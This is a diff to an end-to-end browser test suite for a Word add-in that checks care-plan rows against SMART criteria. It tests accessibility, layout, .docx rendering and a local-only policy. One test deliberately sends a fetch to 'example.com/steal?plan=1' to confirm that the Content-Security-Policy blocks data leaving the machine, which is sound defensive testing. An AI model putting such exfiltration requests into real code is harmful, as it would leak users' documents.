@@ -28,7 +28,19 @@ async function shot(name: string): Promise<void> {
 
 const pane = () => page.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
 const documentArea = () => page.getByRole('main', { name: 'Document' });
-const cards = () => pane().getByRole('article');
+/** Row cards. */
+const rowCards = () => pane().getByRole('article');
+/** The points inside the row cards. */
+const cards = () => pane().locator('[role="article"] li[data-finding-id]');
+
+/** A .docx built by the project's own .docx code, for the preview's file input. */
+async function docxFile(name: string, make: () => Promise<Uint8Array>) {
+  return {
+    name,
+    mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    buffer: Buffer.from(await make()),
+  };
+}
 
 async function checkPlan(): Promise<void> {
   await pane().getByRole('button', { name: 'Check plan' }).click();
@@ -57,25 +69,78 @@ describe('the task pane in the browser preview', () => {
     await checkPlan();
     const summary = pane().getByTestId('check-summary');
     await summary.getByText(/out of 100/).waitFor();
-    expect(await summary.getByRole('progressbar').count()).toBe(5);
+    expect(await summary.getByRole('meter').count()).toBe(5);
     expect(await cards().count()).toBeGreaterThan(0);
-    expect(await pane().getByRole('region').count()).toBeGreaterThan(0);
     await shot('02-checked');
   });
 
-  it('applies an edited rewrite and the cell in the document changes', async () => {
+  it('shows one card per row, named as the user counts rows, with the column by its header words', async () => {
+    const labels = await rowCards().evaluateAll((cards) =>
+      cards.map((c) => c.querySelector('h3')?.firstChild?.textContent),
+    );
+    expect(labels).toEqual(['Row 1', 'Row 2', 'Row 3', 'Row 4', 'Row 5']);
+    const firstRow = rowCards().first();
+    expect(await firstRow.getByText('In “Outcome”').count()).toBeGreaterThan(0);
+    expect(await firstRow.getByText('In “Assessed need”').count()).toBeGreaterThan(0);
+  });
+
+  it('gives the same counts in the summary, the list and the cards, and no rule ids or doubled full stops', async () => {
+    const summaryText = (await pane().getByTestId('summary-count').textContent()) ?? '';
+    const listText = (await pane().getByTestId('list-count').textContent()) ?? '';
+    const points = await cards().count();
+    const rows = await rowCards().count();
+    const [, total, inRows, rowCount, plan] =
+      summaryText.match(/^(\d+) points: (\d+) in (\d+) rows and (\d+) about/) ?? [];
+    expect(Number(inRows)).toBe(points);
+    expect(Number(rowCount)).toBe(rows);
+    expect(Number(total)).toBe(points + Number(plan));
+    expect(listText).toBe(`${points} points in ${rows} rows.`);
+    const badges = await pane().getByTestId('check-summary').locator('.fui-Badge').allTextContents();
+    expect(badges.reduce((sum, b) => sum + Number(b.match(/^\d+/)?.[0] ?? 0), 0)).toBe(Number(total));
+    expect(badges.join(' ')).toMatch(/\b0 tips\b|\b1 tip\b|\b\d+ tips\b/);
+    const text = await pane().innerText();
+    expect(text).not.toMatch(/\.\.(?!\.)/);
+    expect(text).not.toMatch(/\b(no-measure|no child voice|no-child-voice|open-timescale|self-report-only)\b/);
+    expect(text).not.toMatch(/\b1 (points|rows|tips)\b/);
+  });
+
+  it('applies one quick fix; the other points and the marks stay', async () => {
+    await pane().getByRole('button', { name: 'Mark all in document' }).click();
+    await pane()
+      .getByText(/^Marked \d+ place/)
+      .waitFor();
+    const commentsBefore = await page.getByTestId('doc-comment').count();
     const card = cards()
       .filter({ has: page.getByRole('button', { name: 'Apply' }) })
       .first();
-    const editor = card.getByRole('textbox', { name: /Suggested rewrite/ });
+    const cell = await card.getAttribute('data-cell');
+    const listed = () =>
+      cards().evaluateAll((items) =>
+        items.map((i) => [i.getAttribute('data-finding-id'), i.getAttribute('data-cell')]),
+      );
+    const before = await listed();
+    // Points in other rows: the edited row is judged afresh (its other cells may now be fine), the rest not.
+    const row = cell!.split('-').slice(0, 2).join('-');
+    const others = before.filter(([, c]) => !c!.startsWith(`${row}-`)).map(([id]) => id);
+    const sameCell = before.length - others.length;
+    const editor = card.getByRole('textbox', { name: /Quick fix/ });
+    const apply = card.getByRole('button', { name: 'Apply' });
+    expect(await editor.inputValue()).toMatch(/\[[^\]]+\]/); // the sample's fixes ask for what only the author knows
+    expect(await apply.isDisabled()).toBe(true);
+    await card.getByText(/^Fill in the (gap|\d+ gaps) first/).waitFor();
     const rewrite = (await editor.inputValue()).replace(/\[[^\]]+\]/g, 'Ms Green on 14 March') + ' (agreed at review)';
     await editor.fill(rewrite);
-    await card.getByRole('button', { name: 'Apply' }).click();
+    await apply.click();
     await pane()
       .getByText(/Rewrite (applied|added as a tracked change)/)
       .waitFor();
     await documentArea().getByText('(agreed at review)', { exact: false }).first().waitFor();
     await shot('03-applied');
+    // Every point in the other rows is still listed, and the document keeps their comments.
+    const after = (await listed()).map(([id]) => id);
+    expect(others.filter((id) => !after.includes(id))).toEqual([]);
+    expect(await page.getByTestId('doc-comment').count()).toBeGreaterThanOrEqual(commentsBefore - sameCell);
+    await pane().getByRole('button', { name: 'Clear marks' }).click();
   });
 
   it('ignores a finding, and it stays ignored after checking again', async () => {
@@ -112,14 +177,15 @@ describe('the task pane in the browser preview', () => {
     const timely = await cards().count();
     expect(timely).toBeLessThanOrEqual(all);
     await pane()
-      .getByText(timely === 0 ? /Nothing matches these filters/ : /^Showing \d+ of \d+ points\.$/)
+      .getByText(timely === 0 ? /Nothing matches these filters/ : /^Showing \d+ of \d+ points? in the rows\.$/)
       .waitFor();
     await pane().getByRole('button', { name: 'Only Timely' }).click();
     expect(await cards().count()).toBe(all);
   });
 
   it('has no serious or critical accessibility problem (axe-core)', async () => {
-    await page.addScriptTag({ content: fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8') });
+    // Through the DevTools protocol: the page's own policy rightly refuses an injected inline script.
+    await page.evaluate(fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8'));
     type Violation = { id: string; impact: string; help: string; nodes: Array<{ html: string; target: unknown }> };
     const violations: Violation[] = await page.evaluate(
       async () =>
@@ -156,36 +222,136 @@ describe('the task pane in the browser preview', () => {
     await page.getByRole('button', { name: 'Light', exact: true }).click();
   });
 
-  it('is usable at the narrowest pane width, 320 px', async () => {
+  it('is usable at the narrowest pane width, 320 px: opens at the top, nothing clipped, all by keyboard', async () => {
     const narrow = await browser.newPage({ viewport: { width: 320, height: 800 } });
     await narrow.goto(PREVIEW_URL);
     const aside = narrow.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
+    await aside.getByRole('button', { name: 'Check plan' }).waitFor();
+    await narrow.waitForTimeout(250);
+    await narrow.screenshot({ path: path.join(SHOTS, '08a-narrow-opened.png') });
+    // The pane's title and tabs are on screen when it opens, not scrolled away above.
+    const title = await aside.getByRole('heading', { name: 'SMART Plan Checker' }).boundingBox();
+    expect(title!.y).toBeGreaterThanOrEqual(0);
+    expect(title!.y + title!.height).toBeLessThan(800);
+
     await aside.getByRole('button', { name: 'Check plan' }).click();
     await aside.getByTestId('check-summary').waitFor();
     const layout = await aside.evaluate((element) => {
       const pane = element.getBoundingClientRect();
-      const cards = [...element.querySelectorAll('[role="article"], [data-testid="check-summary"]')];
+      const boxes = [...element.querySelectorAll('[role="article"], [data-testid="check-summary"], button, textarea')];
       return {
         width: pane.width,
         pageOverflow: document.documentElement.scrollWidth - window.innerWidth,
-        cardsOutside: cards.filter((card) => card.getBoundingClientRect().right > pane.right + 1).length,
-        cards: cards.length,
+        outside: boxes
+          .filter((box) => box.getBoundingClientRect().right > pane.right + 1)
+          .map((b) => b.outerHTML.slice(0, 80)),
+        cards: boxes.length,
       };
     });
     expect(layout.width).toBeGreaterThanOrEqual(300);
     expect(layout.pageOverflow).toBeLessThanOrEqual(0);
     expect(layout.cards).toBeGreaterThan(1);
-    expect(layout.cardsOutside).toBe(0);
+    expect(layout.outside).toEqual([]);
     await narrow.waitForTimeout(250);
     await narrow.screenshot({ path: path.join(SHOTS, '08-narrow.png') });
+
+    // Tab from the top of the pane: every control of the summary and the first row card gets focus in turn.
+    await aside.getByRole('button', { name: 'Check plan' }).focus();
+    const firstCard = aside.getByRole('article').first();
+    const wanted = await aside.evaluate((element) => {
+      const card = element.querySelector('[role="article"]')!;
+      const controls = [...element.querySelectorAll('button, textarea, input, summary, [role="switch"]')].filter(
+        (c) =>
+          !(c as HTMLButtonElement).disabled &&
+          (c.compareDocumentPosition(card) & Node.DOCUMENT_POSITION_FOLLOWING || card.contains(c)) &&
+          c.closest('[role="tablist"]') === null,
+      );
+      controls.forEach((c, i) => c.setAttribute('data-reach', String(i)));
+      return controls.length;
+    });
+    const reached = new Set<string>(['0']); // Check plan, where the walk starts
+    for (let press = 0; press < 160 && reached.size < wanted; press++) {
+      await narrow.keyboard.press('Tab');
+      const mark = await narrow.evaluate(
+        () =>
+          document.activeElement?.closest('[data-reach]')?.getAttribute('data-reach') ??
+          document.activeElement?.getAttribute('data-reach'),
+      );
+      if (mark) reached.add(mark);
+    }
+    expect(wanted).toBeGreaterThan(8);
+    const unreached = await aside.evaluate(
+      (element, seen) =>
+        [...element.querySelectorAll('[data-reach]')]
+          .filter((c) => !seen.includes(c.getAttribute('data-reach')!))
+          .map((c) => c.outerHTML.slice(0, 160)),
+      [...reached],
+    );
+    expect(unreached).toEqual([]);
+    expect(await firstCard.isVisible()).toBe(true);
     await narrow.close();
   });
 
-  it('runs the Learn demonstration from the keyboard', async () => {
+  it('in forced colours, marked words stay visible and the SMART bars differ at 0 and 91', async () => {
+    const contrast = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    await contrast.emulateMedia({ forcedColors: 'active', colorScheme: 'dark' });
+    await contrast.goto(PREVIEW_URL);
+    const aside = contrast.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
+    await aside.getByRole('button', { name: 'Check plan' }).click();
+    await aside.getByTestId('check-summary').waitFor();
+    await aside.getByRole('button', { name: 'Mark all in document' }).click();
+    await aside.getByText(/^Marked \d+ place/).waitFor();
+    const marked = await contrast.evaluate(() => {
+      const spans = [...document.querySelectorAll('main span')].filter((s) => (s as HTMLElement).style.background);
+      const style = spans[0] && getComputedStyle(spans[0]);
+      return {
+        count: spans.length,
+        outline: style?.outlineStyle,
+        outlineWidth: style?.outlineWidth,
+        background: style?.backgroundColor,
+      };
+    });
+    expect(marked.count).toBeGreaterThan(0);
+    expect(marked.outline).toBe('solid');
+    expect(marked.outlineWidth).not.toBe('0px');
+    const bars = await aside.getByRole('meter').evaluateAll((meters) =>
+      meters.map((m) => {
+        const fill = m.firstElementChild as HTMLElement;
+        return {
+          score: Number(m.getAttribute('aria-valuenow')),
+          filled: fill.getBoundingClientRect().width,
+          track: getComputedStyle(m).backgroundColor,
+          fillColour: getComputedStyle(fill).backgroundColor,
+          outline: getComputedStyle(m).outlineStyle,
+        };
+      }),
+    );
+    const zero = bars.find((b) => b.score === 0);
+    const high = bars.find((b) => b.score >= 90);
+    expect(zero && high).toBeTruthy();
+    expect(zero!.filled).toBe(0);
+    expect(high!.filled).toBeGreaterThan(20);
+    expect(high!.fillColour).not.toBe(high!.track);
+    expect(zero!.outline).toBe('solid');
+    await contrast.waitForTimeout(250);
+    await contrast.screenshot({ path: path.join(SHOTS, '11-forced-colours.png') });
+    await contrast.close();
+  });
+
+  it('runs the Learn demonstration from the keyboard, on the sample already open, with complete worked versions', async () => {
+    // A fresh preview: the sample plan as it opens (earlier tests have edited the shared page's copy).
+    const shared = page;
+    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    await page.goto(PREVIEW_URL);
+    await pane().getByRole('button', { name: 'Check plan' }).waitFor();
+    const tablesBefore = await documentArea().getByRole('table').count();
     await pane().getByRole('tab', { name: 'Learn' }).click();
     await pane().getByRole('button', { name: 'Insert practice plan' }).first().click();
     const step = pane().getByText(/^Point \d+ of \d+/);
     await step.waitFor();
+    // The preview opens on this practice plan: it is used, not inserted a second time.
+    expect(await documentArea().getByRole('table').count()).toBe(tablesBefore);
+    expect(await step.textContent()).toMatch(/· row 1$/);
     const first = await step.textContent();
     await shot('09-learn');
     await page.locator('body').press('n');
@@ -195,6 +361,28 @@ describe('the task pane in the browser preview', () => {
     await pane()
       .getByText(/^Point 1 of/)
       .waitFor();
+    // Worked versions are finished rows: no [gap] in any of them.
+    for (let i = 0; i < 6; i++) {
+      const worked = pane().getByRole('heading', { name: 'Worked SMART version' });
+      if (await worked.count()) {
+        const text = (await worked.locator('xpath=following-sibling::p[1]').textContent()) ?? '';
+        expect(text).not.toMatch(/\[[^\]]*\]/);
+      }
+      await page.locator('body').press('n');
+    }
+    // Go to brings the row into view in the document, however far it is scrolled.
+    await documentArea().evaluate((element) => element.scrollTo(0, element.scrollHeight));
+    await page.setViewportSize({ width: 1280, height: 400 });
+    await page.locator('body').press('g');
+    await page.waitForFunction(() => {
+      const cell = document.querySelector('main td[style*="outline"]');
+      const area = document.querySelector('main')!.getBoundingClientRect();
+      const box = cell?.getBoundingClientRect();
+      return Boolean(box && box.bottom > area.top && box.top < area.bottom);
+    });
+    await shot('09b-learn-go-to');
+    await page.setViewportSize({ width: 1280, height: 900 });
+    await page.locator('body').press('p');
     const total = Number((await step.textContent())!.match(/of (\d+)/)![1]);
     const worked = pane().getByRole('button', { name: /Use worked version|Apply suggestion/ });
     expect(await worked.count()).toBeGreaterThan(0);
@@ -205,20 +393,120 @@ describe('the task pane in the browser preview', () => {
         ? 'w'
         : 'a',
     );
-    await pane()
-      .getByText(/correction|Point \d+ of/)
-      .first()
-      .waitFor();
     await page.waitForFunction((before) => {
       const match = document.body.innerText.match(/Point \d+ of (\d+)/);
       return !match || Number(match[1]) < before;
     }, total);
     await shot('10-learn-applied');
+    await page.close();
+    page = shared;
+  });
+
+  it('reads a fresh template as not filled in yet, with no score', async () => {
+    const fresh = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    await fresh.goto(PREVIEW_URL);
+    const { DocxPlanDocument } = await import('../../src/docx');
+    const { buildTemplate } = await import('../../src/engine/templates');
+    const file = await docxFile('blank-dcs.docx', async () =>
+      (await DocxPlanDocument.create(buildTemplate('dcs', { planDate: '2025-03-03' }))).save(),
+    );
+    await fresh.getByLabel('Open a Word document').setInputFiles(file);
+    await fresh.getByText('blank-dcs.docx').waitFor();
+    const aside = fresh.getByRole('complementary', { name: 'SMART Plan Checker task pane' });
+    await aside.getByRole('button', { name: 'Check plan' }).click();
+    const summary = aside.getByTestId('check-summary');
+    await summary.getByText('Not filled in yet').waitFor();
+    expect(await summary.textContent()).not.toMatch(/out of 100|Clear and SMART/);
+    await fresh.waitForTimeout(250);
+    await fresh.screenshot({ path: path.join(SHOTS, '12-not-filled-in.png') });
+    await fresh.close();
+  });
+
+  it('draws what the .docx shows: shading, a vertically merged cell as one tall cell, headings; favicon served', async () => {
+    const view = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    const missing: string[] = [];
+    view.on('response', (response) => response.status() >= 400 && missing.push(response.url()));
+    await view.goto(PREVIEW_URL);
+    const JSZip = (await import('jszip')).default;
+    const { newPackageParts } = await import('../../src/docx/build');
+    const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+    const cell = (text: string, props = '') =>
+      `<w:tc><w:tcPr>${props}</w:tcPr><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:tc>`;
+    const body = `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Family plan</w:t></w:r></w:p>
+      <w:tbl><w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>
+      <w:tr>${cell('Outcome', '<w:shd w:val="clear" w:color="auto" w:fill="C6E0B4"/>')}${cell('Who will be responsible?', '<w:shd w:val="clear" w:color="auto" w:fill="C6E0B4"/>')}</w:tr>
+      <w:tr>${cell('Sam will be in school every day.', '<w:vMerge w:val="restart"/>')}${cell('Mum')}</w:tr>
+      <w:tr>${cell('', '<w:vMerge/>')}${cell('School')}</w:tr></w:tbl>`;
+    const file = await docxFile('merged.docx', async () => {
+      const zip = new JSZip();
+      for (const [name, content] of Object.entries(newPackageParts('Merged'))) zip.file(name, content);
+      zip.file(
+        'word/document.xml',
+        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}"><w:body>${body}<w:sectPr/></w:body></w:document>`,
+      );
+      return zip.generateAsync({ type: 'uint8array' });
+    });
+    await view.getByLabel('Open a Word document').setInputFiles(file);
+    const main = view.getByRole('main', { name: 'Document' });
+    await main.getByRole('heading', { name: 'Family plan' }).waitFor();
+    const drawn = await main.evaluate((element) => {
+      const cells = [...element.querySelectorAll('td')];
+      const heading = element.querySelector('[role="heading"]') as HTMLElement;
+      return {
+        cells: cells.length,
+        tall: cells.filter((c) => c.rowSpan === 2).map((c) => c.textContent),
+        shading: getComputedStyle(cells[0]).backgroundColor,
+        headingSize: parseFloat(getComputedStyle(heading).fontSize),
+        bodySize: parseFloat(getComputedStyle(cells[2]).fontSize),
+      };
+    });
+    expect(drawn.cells).toBe(5);
+    expect(drawn.tall).toEqual(['Sam will be in school every day.']);
+    expect(drawn.shading).toBe('rgb(198, 224, 180)');
+    expect(drawn.headingSize).toBeGreaterThan(drawn.bodySize);
+    await view.waitForTimeout(250);
+    await view.screenshot({ path: path.join(SHOTS, '13-preview-rendering.png') });
+    const icon = await view.evaluate(
+      () => (document.querySelector('link[rel~="icon"]') as HTMLLinkElement | null)?.href,
+    );
+    expect(icon).toBeTruthy();
+    expect((await view.request.get(icon!)).status()).toBe(200);
+    expect(missing).toEqual([]);
+    await view.close();
   });
 
   it('never sends a request off the machine', () => {
     const external = requests.filter((url) => !url.startsWith(ORIGIN) && !/^(data|blob):/.test(url));
     expect(external).toEqual([]);
     expect(requests.length).toBeGreaterThan(0);
+  });
+
+  it('keeps everything on the machine by policy: a request to another host is blocked by the browser', async () => {
+    const policy = await page.evaluate(
+      () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
+    );
+    expect(policy).toMatch(/connect-src 'self'/);
+    expect(policy).toMatch(/script-src 'self'(;|$)/);
+    const violations: string[] = [];
+    await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
+    const outcome = await page.evaluate(async () => {
+      document.addEventListener('securitypolicyviolation', (event) =>
+        (window as unknown as { reportViolation(d: string): void }).reportViolation(event.effectiveDirective),
+      );
+      try {
+        await fetch('https://example.com/steal?plan=1', { mode: 'no-cors' });
+        return 'sent';
+      } catch {
+        return 'blocked';
+      }
+    });
+    expect(outcome).toBe('blocked');
+    await page.waitForTimeout(100);
+    expect(violations).toContain('connect-src');
+    // The task pane Word loads has the same policy, with Office's script host as its only other source.
+    const taskpane = fs.readFileSync(path.join(ROOT, 'dist', 'taskpane.html'), 'utf8');
+    expect(taskpane).toMatch(/script-src 'self' https:\/\/appsforoffice\.microsoft\.com;/);
+    expect(taskpane).toMatch(/connect-src 'self'/);
+    expect(fs.readdirSync(path.join(ROOT, 'dist')).filter((f) => f.endsWith('.map'))).toEqual([]);
   });
 });
